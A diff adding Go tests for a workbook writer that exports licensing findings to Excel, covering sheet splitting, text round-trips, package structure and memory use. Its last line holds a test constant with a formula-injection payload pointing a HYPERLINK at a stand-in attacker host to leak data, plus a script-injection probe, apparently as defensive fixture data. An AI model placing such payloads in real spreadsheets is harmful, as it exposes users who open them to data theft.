@@ -1,8 +1,11 @@
 package workbook
 
 import (
+	"archive/zip"
 	"bytes"
+	"encoding/xml"
 	"io"
+	"path"
 	"strconv"
 	"strings"
 	"testing"
@@ -11,6 +14,7 @@ import (
 	"github.com/stretchr/testify/require"
 	"github.com/xuri/excelize/v2"
 
+	"github.com/openrenewal/smartlicensing/internal/heaptest"
 	"github.com/openrenewal/smartlicensing/report"
 	"github.com/openrenewal/smartlicensing/report/reporttest"
 	"github.com/openrenewal/smartlicensing/smartaccount"
@@ -136,6 +140,156 @@ func TestAMoveContinuesOnAnotherSheet(t *testing.T) {
 	tables, err := x.GetTables("Clean-up (3)")
 	require.NoError(t, err)
 	assert.Equal(t, "hygiene_cleanup_3", tables[0].Name)
+}
+
+func TestAFullSheetHasNoEmptyContinuation(t *testing.T) {
+	f := sample(t, 2_000) // 1,400 clean-up findings: two sheets of 700
+	x, _ := open(t, f, 700)
+	tables, err := x.GetTables("Clean-up (2)")
+	require.NoError(t, err)
+	require.Len(t, tables, 1)
+	assert.Equal(t, "A1:K701", tables[0].Range)
+	assert.NotContains(t, x.GetSheetList(), "Clean-up (3)")
+	assert.Equal(t, excelize.TotalRows-1, maxRows, "a sheet holds Excel's rows less the header")
+}
+
+func TestTextReadsBack(t *testing.T) {
+	f := sample(t, 60)
+	cases := []struct {
+		name, in, want string
+	}{
+		{"Excel's own escape is kept as text", "_x0041_ is not A", "_x0041_ is not A"},
+		{"an escaped underscore too", "_x005F_", "_x005F_"},
+		{"what XML cannot hold becomes U+FFFD", "bell\x07 bad\xff end", "bell\uFFFD bad\uFFFD end"},
+		{"white space at both ends stays", "  two spaces, a CR and a LF\r\n", "  two spaces, a CR and a LF\r\n"},
+		{"markup is text", "<b>&amp;</b>", "<b>&amp;</b>"},
+	}
+	fs := f.Findings(report.MoveCleanup)
+	for i, c := range cases {
+		fs[i].Detail = c.in
+	}
+	x, _ := open(t, f, maxRows)
+	for i, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			cell, _ := excelize.CoordinatesToCellName(9, i+2) // the Detail column, I
+			assert.Equal(t, c.want, raw(t, x, "Clean-up", cell))
+		})
+	}
+}
+
+// TestPackageAgrees reads the archive itself: every part is listed in
+// [Content_Types].xml and nothing else is, every relationship points at a
+// part, every XML part is well-formed and every table spans its sheet's
+// rows under a header of its columns.
+func TestPackageAgrees(t *testing.T) {
+	f := sample(t, 300)
+	var b bytes.Buffer
+	require.NoError(t, Write(&b, f))
+	zr, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
+	require.NoError(t, err)
+	parts := map[string][]byte{}
+	var names []string
+	for _, zf := range zr.File {
+		rc, err := zf.Open()
+		require.NoError(t, err)
+		data, err := io.ReadAll(rc) // checks the CRC-32 at the end
+		require.NoError(t, err, zf.Name)
+		require.NoError(t, rc.Close())
+		parts[zf.Name] = data
+		names = append(names, zf.Name)
+		dec := xml.NewDecoder(bytes.NewReader(data))
+		for {
+			if _, err := dec.Token(); err == io.EOF {
+				break
+			} else {
+				require.NoError(t, err, "%s is well-formed", zf.Name)
+			}
+		}
+	}
+	// The fixed order: the package's parts, then each sheet with its
+	// table. Every sheet of this file has rows, so a table.
+	want := []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"}
+	for i := 1; i <= 13; i++ {
+		n := strconv.Itoa(i)
+		want = append(want, "xl/worksheets/sheet"+n+".xml", "xl/worksheets/_rels/sheet"+n+".xml.rels", "xl/tables/table"+n+".xml")
+	}
+	assert.Equal(t, want, names)
+
+	var types struct {
+		Override []struct {
+			PartName string `xml:",attr"`
+		}
+	}
+	require.NoError(t, xml.Unmarshal(parts["[Content_Types].xml"], &types))
+	var overridden []string
+	for _, o := range types.Override {
+		overridden = append(overridden, strings.TrimPrefix(o.PartName, "/"))
+	}
+	var listed []string
+	for _, n := range names {
+		if n != "[Content_Types].xml" && !strings.HasSuffix(n, ".rels") {
+			listed = append(listed, n)
+		}
+	}
+	assert.ElementsMatch(t, listed, overridden, "one content type per part, .rels by their extension")
+
+	for name, data := range parts {
+		if !strings.HasSuffix(name, ".rels") {
+			continue
+		}
+		var rels struct {
+			Relationship []struct {
+				Target string `xml:",attr"`
+			}
+		}
+		require.NoError(t, xml.Unmarshal(data, &rels))
+		// A part's relationships sit in _rels/ beside it; targets are
+		// relative to the part's folder.
+		dir := path.Dir(path.Dir(name))
+		for _, r := range rels.Relationship {
+			assert.Contains(t, parts, path.Clean(path.Join(dir, r.Target)), "%s points at a part", name)
+		}
+	}
+
+	x, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
+	require.NoError(t, err)
+	defer x.Close()
+	for _, sheet := range x.GetSheetList() {
+		rows, err := x.GetRows(sheet)
+		require.NoError(t, err)
+		tables, err := x.GetTables(sheet)
+		require.NoError(t, err)
+		require.Len(t, tables, 1, sheet)
+		last, _ := excelize.CoordinatesToCellName(len(rows[0]), len(rows))
+		assert.Equal(t, "A1:"+last, tables[0].Range, "%s's table spans its rows", sheet)
+	}
+}
+
+// TestMemoryIsBounded writes 10,000 and 200,000 findings — 6 and 125 MB
+// of worksheet XML, 0.4 and 8 MB compressed — and sees the heap grow by
+// the same few blocks of the compressor for both: nothing grows with the
+// workbook.
+func TestMemoryIsBounded(t *testing.T) {
+	if heaptest.Race || testing.Short() {
+		t.Skip("writes 200,000 findings")
+	}
+	peak := func(findings int) uint64 {
+		f := sample(t, findings)
+		var n countingWriter
+		p := heaptest.Peak(func() { require.NoError(t, Write(&n, f)) })
+		t.Logf("%d findings: peak heap %.1f MiB for a workbook of %.1f MiB", findings, float64(p)/(1<<20), float64(n)/(1<<20))
+		return p
+	}
+	small, large := peak(10_000), peak(200_000)
+	assert.Less(t, large, small+4<<20, "twenty times the findings, the same memory")
+	assert.Less(t, large, uint64(32<<20))
+}
+
+type countingWriter int64
+
+func (w *countingWriter) Write(p []byte) (int, error) {
+	*w += countingWriter(len(p))
+	return len(p), nil
 }
 
 const hostile = `=HYPERLINK("http://evil.example/?leak","click") <script>alert(1)</script> "q" tab` + "\t" + "cr\r"
